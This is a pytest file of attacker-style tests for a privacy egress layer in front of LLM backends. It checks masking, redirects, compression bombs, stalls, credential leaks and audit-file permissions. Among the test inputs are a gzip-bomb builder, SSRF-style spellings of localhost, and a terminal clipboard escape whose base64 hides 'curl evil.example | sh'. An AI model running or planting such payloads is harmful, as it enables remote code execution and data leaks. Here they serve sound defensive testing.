"""Attacks on the door (plume.egress): what a hostile server, a hostile document or an
unusual setting can make leave, crash or hang. Each test is a finding of an attacker's review
of the door, and states what must hold. Faults through ``httpx.MockTransport``; real sockets in
tests/integration/test_door_attacks_network.py."""

from __future__ import annotations

import contextlib
import gzip
import json
import os
import re
import time
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest

from plume.actions import ActionSpec
from plume.backends.base import create_backend
from plume.doctor import run_checks
from plume.egress.door import Door
from plume.errors import BackendTimeout, InvalidReply, LeakPrevented, PlumeError, RedirectRefused, SettingsError, TooLong
from plume.pipeline import Generation
from plume.settings import Settings
from plume.types import ChatRequest, Message
from support.mock_http import Recorder, openai_chunks, sse

LOCAL = Settings(backend="openai", base_url="http://127.0.0.1:8080", model="m")
OLLAMA = Settings(backend="ollama", base_url="http://localhost:11434", model="m")
OPERATOR = Settings(backend="openai", base_url="https://llm.operateur.example", model="m", approved_hosts="llm.operateur.example")
REQUEST = ChatRequest(model="m", messages=(Message("user", "Bonjour"),), max_tokens=32)
NIR = "2 69 05 49 588 157 80"
TEL = "06 12 34 56 78"
NAME = "Hélène Dupont"
EMAIL = "claire.durand@mairie.example"


def _echo(request: httpx.Request) -> httpx.Response:
    if request.method == "GET":
        return httpx.Response(200, json={"data": [{"id": "m"}]})
    return sse(openai_chunks(json.loads(request.content)["messages"][-1]["content"]))


def _folded(text: str) -> str:
    """``text`` as a reader (or a model) reads it: compatibility forms folded, case and
    spacing (including invisible characters) ignored."""
    text = unicodedata.normalize("NFKC", text).casefold()
    return "".join(c for c in text if not c.isspace() and unicodedata.category(c) != "Cf")


# --- redirects -------------------------------------------------------------------------
@pytest.mark.parametrize("settings", [LOCAL, OLLAMA], ids=["openai", "ollama"])
@pytest.mark.parametrize("call", ["chat", "models"])
def test_a_redirect_to_an_unreadable_location_is_refused_not_a_crash(settings: Settings, call: str) -> None:
    transport = httpx.MockTransport(lambda r: httpx.Response(302, headers={"Location": "http://[::1"}))
    backend = create_backend(settings, transport=transport)
    with pytest.raises(RedirectRefused):
        list(backend.stream_chat(REQUEST)) if call == "chat" else backend.list_models()


# --- replies: size and time ------------------------------------------------------------
def _gzip_bomb(backend: str, size: int) -> bytes:
    if backend == "openai":
        payload = b'data: {"choices":[{"index":0,"delta":{"content":"' + b"x" * size + b'"}}]}\n\ndata: [DONE]\n\n'
    else:
        line = {"model": "m", "created_at": "2026-01-01T00:00:00Z", "message": {"role": "assistant", "content": "x" * size}}
        payload = (json.dumps({**line, "done": False}) + "\n" + json.dumps({**line, "done": True}) + "\n").encode()
    return gzip.compress(payload, 9)


@pytest.mark.parametrize("settings", [LOCAL, OLLAMA], ids=["openai", "ollama"])
def test_a_compressed_reply_is_bounded_by_what_it_expands_to(settings: Settings) -> None:
    settings = settings.replace(max_output_tokens=16)  # the bound: 2 MB + 32 KB
    bomb = _gzip_bomb(settings.backend, 8 * 1024 * 1024)
    assert len(bomb) < 64 * 1024
    kind = "text/event-stream" if settings.backend == "openai" else "application/x-ndjson"
    transport = httpx.MockTransport(
        lambda r: httpx.Response(200, headers={"content-type": kind, "content-encoding": "gzip"}, content=iter([bomb]))
    )
    with pytest.raises(InvalidReply, match=r"exceeds|compressed"):
        list(create_backend(settings, transport=transport).stream_chat(REQUEST))


def _trickle(head: bytes, drop: bytes, seconds: float) -> httpx.MockTransport:
    def handler(request: httpx.Request) -> httpx.Response:
        def stream() -> Iterator[bytes]:
            yield head
            until = time.monotonic() + seconds
            while time.monotonic() < until:  # a real server would go on for days
                time.sleep(0.02)
                yield drop

        return httpx.Response(200, headers={"content-type": "text/event-stream"}, content=stream())

    return httpx.MockTransport(handler)


@pytest.mark.parametrize(
    "settings, head, drop",
    [
        (LOCAL, b'data: {"choices":[{"index":0,"delta":{"content":"', b"x"),
        (LOCAL, b"", b"data: x\n"),
        (OLLAMA, b'{"model":"m","created_at":"2026-01-01T00:00:00Z","message":{"role":"assistant","content":"', b"x"),
    ],
    ids=["openai-one-endless-line", "openai-an-event-never-ended", "ollama-one-endless-line"],
)
def test_a_reply_that_trickles_without_ever_ending_an_event_stalls_after_read_timeout(
    settings: Settings, head: bytes, drop: bytes
) -> None:
    backend = create_backend(settings.replace(read_timeout=0.3), transport=_trickle(head, drop, 2.0))
    with pytest.raises(PlumeError) as raised:  # the trickle ends after 2 s: any other outcome is not the idle limit
        list(backend.stream_chat(REQUEST))
    assert isinstance(raised.value, BackendTimeout), raised.value


# --- known values in another form ------------------------------------------------------
_FULL_WIDTH = str.maketrans("0123456789", "０１２３４５６７８９")

VARIANTS = {
    # id: (the text of the first request, which masks the value; the text of a later request; the value)
    "name-NFD": (f"Reçu Mme {NAME} pour son dossier.", unicodedata.normalize("NFD", f"{NAME} a rappelé ce matin."), NAME),
    "name-upper-case": (f"Reçu Mme {NAME} pour son dossier.", f"Objet : dossier de {NAME.upper()}.", NAME),
    "name-two-spaces": (f"Reçu Mme {NAME} pour son dossier.", f"{NAME.replace(' ', '  ')} a rappelé ce matin.", NAME),
    "nir-no-break-spaces": (f"NIR de l'usager : {NIR}.", f"Rappel du NIR : {NIR.replace(' ', chr(0xA0))}.", NIR),
    "nir-narrow-no-break-spaces": (f"NIR de l'usager : {NIR}.", f"Rappel du NIR : {NIR.replace(' ', chr(0x202F))}.", NIR),
    "nir-full-width-digits": (f"NIR de l'usager : {NIR}.", f"Rappel du NIR : {NIR.translate(_FULL_WIDTH)}.", NIR),
    "tel-no-break-spaces": (f"Joignable au {TEL}.", f"Rappeler au {TEL.replace(' ', chr(0xA0))} demain.", TEL),
    "email-zero-width-space": (f"Écrire à {EMAIL}.", f"Copie à {EMAIL.replace('@', chr(0x200B) + '@')} svp.", EMAIL),
}


@pytest.mark.parametrize(
    "first, later, value",
    [pytest.param(*v, id=k) for k, v in VARIANTS.items()],
)
def test_a_value_masked_once_never_leaves_in_another_unicode_form(first: str, later: str, value: str) -> None:
    recorder = Recorder(_echo)
    backend = create_backend(OPERATOR, transport=recorder.transport)
    Generation(backend, OPERATOR, ActionSpec("summarize"), first, model="m").run()
    assert value in backend.door.mapping.values.values()  # type: ignore[union-attr]  # the run knows the value
    with contextlib.suppress(LeakPrevented):  # stopped by the last check: fine
        Generation(backend, OPERATOR, ActionSpec("summarize"), later, model="m").run()
    sent = [_folded(m["content"]) for body in recorder.bodies if body for m in body["messages"]]
    assert not any(_folded(value) in text for text in sent)


# --- placeholders ----------------------------------------------------------------------
def test_a_placeholder_written_in_the_source_is_not_restored_to_a_real_value() -> None:
    recorder = Recorder(_echo)
    backend = create_backend(OPERATOR, transport=recorder.transport)
    text = "Le modèle de courrier indique [NOM_1] à remplacer. Reçu Mme Claire Durand pour son dossier."
    answer = Generation(backend, OPERATOR, ActionSpec("rewrite", style="formal"), text, model="m").run()
    assert "[NOM_1]" in answer and answer.count("Claire Durand") == 1


def test_a_placeholder_the_model_invents_is_not_restored_to_a_value_of_another_request() -> None:
    """Held: a placeholder only restores to a value of the run's own mapping; the model
    cannot make a value leave, only appear in the user's own document."""
    recorder = Recorder(lambda r: sse(openai_chunks("Voir [EMAIL_9] et [NOM_1].")))
    backend = create_backend(OPERATOR, transport=recorder.transport)
    answer = Generation(backend, OPERATOR, ActionSpec("summarize"), "Reçu Mme Claire Durand.", model="m").run()
    assert "[EMAIL_9]" in answer and "Claire Durand" in answer


# --- credentials in base_url -----------------------------------------------------------
WITH_PASSWORD = OPERATOR.replace(base_url="https://agent:s3cret-pw@llm.operateur.example")


@pytest.mark.parametrize("backend", ["openai", "ollama"])
def test_credentials_in_base_url_are_a_settings_error(backend: str) -> None:
    with pytest.raises(SettingsError) as raised:
        Door(WITH_PASSWORD.replace(backend=backend).validate())
    assert "s3cret-pw" not in str(raised.value)


@pytest.mark.parametrize("backend", ["openai", "ollama"])
def test_the_password_of_base_url_is_never_printed(backend: str) -> None:
    recorder = Recorder(lambda r: (_ for _ in ()).throw(httpx.ConnectError("connection refused")))
    checks = run_checks(WITH_PASSWORD.replace(backend=backend), "", "en", transport=recorder.transport)
    assert all("Authorization" not in r.headers for r in recorder.requests)  # held: never sent
    lines = "\n".join(c.line() for c in checks)
    assert "s3cret-pw" not in lines, lines


# --- what held -------------------------------------------------------------------------
@pytest.mark.parametrize("status", [300, 301, 302, 303, 304, 305, 307, 308, 399])
@pytest.mark.parametrize("location", ["/v1/ailleurs", "//collecte.example.net/x", "https://collecte.example.net/x", ""])
def test_every_3xx_is_refused_whatever_its_location(status: int, location: str) -> None:
    headers = {"Location": location} if location else {}
    recorder = Recorder(lambda r: httpx.Response(status, headers=headers))
    with pytest.raises(RedirectRefused):
        list(create_backend(LOCAL, transport=recorder.transport).stream_chat(REQUEST))
    assert len(recorder.requests) == 1


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:8080@collecte.example.net/v1/chat/completions",
        "http://collecte.example.net/v1/chat/completions",
        "http://127.0.0.1:8081/v1/chat/completions",
        "https://127.0.0.1:8080/v1/chat/completions",
        "http://127.0.0.2:8080/v1/chat/completions",
        "http://[::1]:8080/v1/chat/completions",
        "http://localhost:8080/v1/chat/completions",
    ],
)
def test_a_client_aimed_elsewhere_never_sends(url: str) -> None:
    from plume.errors import DestinationBlocked

    recorder = Recorder(lambda r: httpx.Response(200))
    door = Door(LOCAL, transport=recorder.transport)
    with door.build(httpx.Client) as client, pytest.raises(DestinationBlocked):
        client.post(url, json={"messages": []})
    assert recorder.requests == []


@pytest.mark.parametrize(
    "host", ["localhost.", "127.1", "0.0.0.0", "[::ffff:127.0.0.1]", "0x7f000001", "%6c%6fcalhost", "127.0.0.1.nip.io"]
)
def test_an_unusual_spelling_of_this_computer_is_refused_not_sent_as_local(host: str) -> None:
    from plume.errors import DestinationBlocked

    with pytest.raises((DestinationBlocked, SettingsError)):
        Door(LOCAL.replace(base_url=f"http://{host}:8080"), environ={"HTTP_PROXY": "http://proxy.example:3128"})


def test_an_escaped_value_in_the_body_is_caught_by_the_last_check() -> None:
    """Held: the last check reads JSON strings decoded (\\uXXXX, surrogate pairs, keys)."""
    door = Door(OPERATOR, transport=Recorder(_echo).transport)
    door.protect(f"Reçu Mme {NAME}.")
    escaped = [
        json.dumps({"messages": [{"role": "user", "content": f"NIR {NIR}"}]}, ensure_ascii=True),
        '{"messages": [{"role": "user", "content": "' + "".join(f"\\u{ord(c):04x}" for c in NAME) + ' 😀"}]}',
        json.dumps({"messages": [], f"{EMAIL}": 1}),
    ]
    for body in escaped:
        with pytest.raises(LeakPrevented):
            door.check_body(body.encode())
    assert re.search("Dupont", door.protect(f"{NAME} a rappelé")) is None


# --- long documents --------------------------------------------------------------------
def _echo_placeholders(request: httpx.Request) -> httpx.Response:
    from support.recording_server import echo_answer

    return sse(openai_chunks(echo_answer(json.loads(request.content)["messages"][-1]["content"])))


def test_a_section_label_cut_in_half_never_leaves_half_of_a_masked_name() -> None:
    from plume.longdoc import LongGeneration
    from plume.longdoc.split import Block

    recorder = Recorder(_echo_placeholders)
    settings = OPERATOR.replace(max_output_tokens=256)
    backend = create_backend(settings, transport=recorder.transport)
    title = "Commission d'attribution des logements du mardi 3 mars, dossier de Marie-Anne Kowalczyk"
    paragraph = "La commission a examiné les pièces du dossier et entendu les services sur la situation du foyer. " * 6
    blocks = [Block(title, 1), Block("Reçu Mme Marie-Anne Kowalczyk pour son dossier. " + paragraph)]
    blocks += [Block(paragraph) for _ in range(12)]
    generation = LongGeneration(backend, settings, ActionSpec("summarize"), blocks, model="m", window=1024)
    assert not generation.fits  # map-reduce: parts start inside the section, with its title as a label
    generation.run()
    assert "Marie-Anne Kowalczyk" in backend.door.mapping.values.values()  # type: ignore[union-attr]  # the run masked the person
    leaking = [m["content"] for body in recorder.bodies for m in body["messages"] if "Marie-Anne" in m["content"]]
    assert leaking == [], f"{len(leaking)} requests, e.g. {[line for line in leaking[0].splitlines() if 'Marie' in line]}"


# --- the audit -------------------------------------------------------------------------
def test_the_audit_never_keeps_a_masked_value_in_another_form(tmp_path: Path) -> None:
    from plume.audit import AuditEntry, AuditLog, as_sent

    door = Door(OPERATOR, transport=Recorder(_echo).transport)
    door.protect(f"Reçu Mme {NAME}, NIR {NIR}.")
    source = unicodedata.normalize("NFD", f"{NAME} a rappelé") + f" ; NIR {NIR.replace(' ', chr(0xA0))}."
    entry = AuditEntry("summarize", "m", "llm.operateur.example", "done", len(source), 0, 0.1, door.masked,
                       input_text=as_sent(door, source), output_text="")  # fmt: skip
    AuditLog(tmp_path / "audit.jsonl").record(entry)
    kept = _folded(json.loads((tmp_path / "audit.jsonl").read_text(encoding="utf-8"))["input_text"])
    assert _folded(NAME) not in kept and _folded(NIR) not in kept


def test_the_audit_keeps_the_text_as_sent_and_for_its_owner_only(tmp_path: Path) -> None:
    """Held: exact values are masked in the audit, and the file is the owner's only."""
    from plume.audit import AuditEntry, AuditLog, as_sent

    door = Door(OPERATOR, transport=Recorder(_echo).transport)
    door.protect(f"Reçu Mme {NAME}.")
    source = f"{NAME} a rappelé ; NIR {NIR} ; {EMAIL}."
    entry = AuditEntry("summarize", "m", "llm.operateur.example", "done", len(source), 0, 0.1, door.masked,
                       input_text=as_sent(door, source), output_text=as_sent(door, f"Réponse pour {NAME}."))  # fmt: skip
    AuditLog(tmp_path / "audit.jsonl").record(entry)
    text = (tmp_path / "audit.jsonl").read_text(encoding="utf-8")
    assert NAME not in text and NIR not in text and EMAIL not in text
    assert (tmp_path / "audit.jsonl").stat().st_mode & 0o077 == 0


# --- hostile or odd servers, odd settings ----------------------------------------------
@pytest.mark.parametrize("reply", [b'[{"id": "m"}]', b"null", b'{"data": 5}'])
@pytest.mark.parametrize("call", ["models", "doctor"])
def test_a_model_list_of_another_shape_is_an_invalid_reply_not_a_crash(reply: bytes, call: str) -> None:
    transport = httpx.MockTransport(lambda r: httpx.Response(200, content=reply, headers={"content-type": "application/json"}))
    if call == "models":
        with pytest.raises(InvalidReply):
            create_backend(LOCAL, transport=transport).list_models()
    else:
        checks = run_checks(LOCAL, "", "en", transport=transport)
        assert not all(c.ok for c in checks)


def test_an_approved_internationalised_host_is_reached_by_its_ascii_name() -> None:
    # Settings take the host in ASCII (the error names that form): one spelling for the
    # policy, the badge and the wire.
    with pytest.raises(SettingsError, match="xn--oprateur-c1a"):
        create_backend(OPERATOR.replace(base_url="https://llm.opérateur.example", approved_hosts="llm.opérateur.example"))
    settings = OPERATOR.replace(base_url="https://llm.xn--oprateur-c1a.example", approved_hosts="llm.xn--oprateur-c1a.example")
    recorder = Recorder(lambda r: httpx.Response(200, json={"data": [{"id": "m"}]}))
    assert [m.name for m in create_backend(settings, transport=recorder.transport).list_models()] == ["m"]


# --- a hostile operator ----------------------------------------------------------------
PERSONAL = f"Reçu Mme Claire Durand, NIR {NIR}, tél. {TEL}, IBAN FR76 3000 6000 0112 3456 7890 189. "


def _gluing(glue: str) -> Callable[[httpx.Request], httpx.Response]:
    """A model that answers every request with the placeholders it was given, each glued to
    a character (``glue`` is a format with ``{p}``)."""

    def handler(request: httpx.Request) -> httpx.Response:
        content = json.loads(request.content)["messages"][-1]["content"]
        placeholders = sorted(set(re.findall(r"\[[A-Z]+_\d+\]", content)))
        return sse(openai_chunks("Points : " + " ".join(glue.format(p=p) for p in placeholders) + "."))

    return handler


@pytest.mark.parametrize("glue", ["x{p}x", "{p}s", "é{p}", "{p}0"])
def test_an_operator_cannot_get_masked_values_back_through_a_partial_summary(glue: str) -> None:
    from plume.longdoc import LongGeneration
    from plume.longdoc.split import Block

    recorder = Recorder(_gluing(glue))
    settings = OPERATOR.replace(max_output_tokens=256)
    backend = create_backend(settings, transport=recorder.transport)
    paragraph = "La commission a examiné les pièces du dossier et entendu les services sur la situation du foyer. " * 6
    blocks = [Block(PERSONAL + paragraph)] + [Block(paragraph) for _ in range(12)]
    generation = LongGeneration(backend, settings, ActionSpec("summarize"), blocks, model="m", window=1024)
    with contextlib.suppress(LeakPrevented):
        generation.run()
    values = list(backend.door.mapping.values.values())  # type: ignore[union-attr]
    assert len(values) == 4 and len(recorder.bodies) > 1  # all four masked; summaries were sent back
    sent = "\n".join(m["content"] for body in recorder.bodies for m in body["messages"])
    assert [v for v in values if v in sent] == []


def test_an_operator_cannot_get_part_of_a_masked_value_back_through_the_cut_of_a_long_summary() -> None:
    from plume.longdoc import LongGeneration
    from plume.longdoc.split import Block

    sizes = iter(range(138, 400, 2))  # each map answer puts the placeholder two words later

    def hostile(request: httpx.Request) -> httpx.Response:
        content = json.loads(request.content)["messages"][-1]["content"]
        if "[NIR_1]" not in content:
            return sse(openai_chunks("Rien à signaler."))
        return sse(openai_chunks(" ".join(["mot"] * next(sizes) + ["[NIR_1]"] + ["mot"] * 1500)))

    recorder = Recorder(hostile)
    settings = OPERATOR.replace(max_output_tokens=256)
    backend = create_backend(settings, transport=recorder.transport)
    paragraph = "La commission a examiné les pièces du dossier et entendu les services sur la situation du foyer. " * 6
    blocks = [Block(f"NIR {NIR}. " + paragraph) for _ in range(12)]
    LongGeneration(backend, settings, ActionSpec("summarize"), blocks, model="m", window=1024).run()
    assert list(backend.door.mapping.values.values()) == [NIR]  # type: ignore[union-attr]
    sent = "\n".join(m["content"] for body in recorder.bodies for m in body["messages"])
    assert NIR[:10] not in sent, re.findall(r"\d(?: \d+){3,}", sent)


def _tiny_window(limit: int, recorder_bodies: list[dict[str, object]]) -> httpx.MockTransport:
    def handler(request: httpx.Request) -> httpx.Response:
        if request.method == "GET":
            return httpx.Response(200, json={"data": [{"id": "m", "max_model_len": limit}]})
        recorder_bodies.append(json.loads(request.content))
        return sse(openai_chunks("ok"))

    return httpx.MockTransport(handler)


@pytest.mark.parametrize("limit", [1, 300])
def test_a_server_reporting_a_tiny_window_is_a_plume_error_for_a_summary(limit: int) -> None:
    from plume.longdoc import LongGeneration, blocks_from_text
    from plume.window import resolve_window

    backend = create_backend(LOCAL, transport=_tiny_window(limit, []))
    window = resolve_window(backend, LOCAL, "m").tokens
    with pytest.raises(TooLong):
        LongGeneration(backend, LOCAL, ActionSpec("summarize"), blocks_from_text("Bonjour à tous. " * 30), model="m",
                       window=window).run()  # fmt: skip


def test_a_rewrite_never_asks_for_a_negative_number_of_tokens() -> None:
    from plume.longdoc import LongGeneration, blocks_from_text
    from plume.window import resolve_window

    bodies: list[dict[str, object]] = []
    backend = create_backend(LOCAL, transport=_tiny_window(100, bodies))
    window = resolve_window(backend, LOCAL, "m").tokens
    with pytest.raises(TooLong):
        LongGeneration(backend, LOCAL, ActionSpec("rewrite", style="formal"), blocks_from_text("Bonjour à tous. " * 30),
                       model="m", window=window).run()  # fmt: skip
    assert [b for b in bodies if b and "messages" in b] == []  # refused before any request


def test_a_value_the_plan_found_is_masked_in_the_batch_that_is_cut_from_its_context() -> None:
    from plume.longdoc import LongGeneration
    from plume.longdoc.split import Block, batches

    siren = "732 829 320"
    text = "La commission a examiné les pièces du dossier avec attention. " * 7
    text += "La société bien bien bien bien connue est inscrite au RCS de Paris. " + siren + " est son numéro. "
    text += "Les services ont rendu un avis favorable sur ce point précis. " * 40
    recorder = Recorder(lambda r: sse(openai_chunks("ok.")))
    settings = OPERATOR.replace(max_output_tokens=256)
    backend = create_backend(settings, transport=recorder.transport)
    generation = LongGeneration(backend, settings, ActionSpec("rewrite", style="formal"), [Block(text)], model="m", window=1024)
    parts = batches(generation._planned, generation._batch)
    assert parts[0].text.endswith("RCS de Paris.") and parts[1].text.startswith("[SIREN_1]")  # the plan found it
    generation.run()
    assert [b for b in recorder.bodies if siren in json.dumps(b, ensure_ascii=False)] == []


@pytest.mark.skipif(os.name != "posix", reason="file modes")
def test_every_audit_file_is_its_owners_only_also_those_an_older_version_left(tmp_path: Path) -> None:
    from plume.audit import AuditEntry, AuditLog

    folder = tmp_path / "plume"
    folder.mkdir(mode=0o755)
    folder.chmod(0o755)
    for name in ("audit.jsonl", "audit.jsonl.1", "audit.jsonl.2"):
        (folder / name).write_text('{"input_text": "texte"}\n', encoding="utf-8")
        (folder / name).chmod(0o644)
    entry = AuditEntry("summarize", "m", "local", "done", 1, 1, 0.1, 0, input_text="x" * 100)
    AuditLog(folder / "audit.jsonl", max_bytes=16 * 1024).record(entry)
    modes = {p.name: oct(p.stat().st_mode & 0o777) for p in (folder, *sorted(folder.iterdir()))}
    assert all(mode in ("0o600", "0o700") for mode in modes.values()), modes


# --- the command line ------------------------------------------------------------------
def _cli(monkeypatch: pytest.MonkeyPatch, handler: Callable[[httpx.Request], httpx.Response], *argv: str) -> tuple[int, str]:
    """``python -m plume`` in this process, its backend talking to ``handler``."""
    import io

    import plume.cli
    import plume.runs.model_run

    for module in (plume.cli, plume.runs.model_run):  # the models command, and runs
        monkeypatch.setattr(module, "create_backend", lambda s, k="", **_: create_backend(s, k, httpx.MockTransport(handler)))
    for name in ("PLUME_API_KEY", "PLUME_MODEL", "PLUME_LOCAL_POLICY", "PLUME_OPERATOR_POLICY"):
        monkeypatch.delenv(name, raising=False)
    out = io.StringIO()
    code = plume.cli.main(["--backend", "openai", "--url", "http://127.0.0.1:8080", *argv], stdin=io.StringIO("Bonjour."),
                          stdout=out)  # fmt: skip
    return code, out.getvalue()


def test_the_command_line_ends_with_one_line_on_a_redirect_it_cannot_read(monkeypatch: pytest.MonkeyPatch) -> None:
    code, _ = _cli(monkeypatch, lambda r: httpx.Response(302, headers={"Location": "http://[::1"}), "--model", "m",
                   "run", "summarize")  # fmt: skip
    assert code == 3


def test_the_command_line_prints_no_control_character_a_server_sent(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = "m\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J"
    code, out = _cli(monkeypatch, lambda r: httpx.Response(200, json={"data": [{"id": hostile}]}), "models")
    assert code == 0 and "\x1b" not in out
    code, _ = _cli(monkeypatch, lambda r: httpx.Response(500, json={"error": {"message": hostile}}), "--model", "m",
                   "run", "summarize")  # fmt: skip
    assert code == 3 and "\x1b" not in capsys.readouterr().err


# --- headers ---------------------------------------------------------------------------
def test_only_the_doors_user_agent_leaves() -> None:
    from plume.egress.door import USER_AGENT
    from support.mock_http import ndjson, ollama_chunks

    settings = OLLAMA.replace(base_url="https://ollama.operateur.example", approved_hosts="ollama.operateur.example")
    recorder = Recorder(lambda r: ndjson(ollama_chunks("Bonjour")))
    list(create_backend(settings, "cle", recorder.transport).stream_chat(REQUEST))
    assert {r.headers.get("User-Agent") for r in recorder.requests} == {USER_AGENT}


# --- concurrent runs -------------------------------------------------------------------
def test_concurrent_runs_share_no_mapping_and_send_nothing_of_each_other() -> None:
    """Held: each run has its own door; values masked by one run never appear (nor shift
    placeholders) in another run's requests, even interleaved on threads."""
    import threading

    texts = {f"run{i}": f"Reçu Mme Claire Durand{i} au sujet de {i}@mairie.example, tél. 06 12 34 56 7{i}." for i in range(4)}
    recorders = {name: Recorder(_echo) for name in texts}
    answers: dict[str, str] = {}

    def run(name: str) -> None:
        backend = create_backend(OPERATOR, transport=recorders[name].transport)
        answers[name] = Generation(backend, OPERATOR, ActionSpec("summarize"), texts[name], model="m").run()

    threads = [threading.Thread(target=run, args=(name,)) for name in texts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert not any(thread.is_alive() for thread in threads) and set(answers) == set(texts)
    for name, recorder in recorders.items():
        sent = json.dumps(recorder.bodies, ensure_ascii=False)
        assert "mairie.example" not in sent and "06 12" not in sent
        assert "[EMAIL_1]" in sent and "[EMAIL_2]" not in sent  # numbered from 1 in every run
        assert f"{name[-1]}@mairie.example" in answers[name]
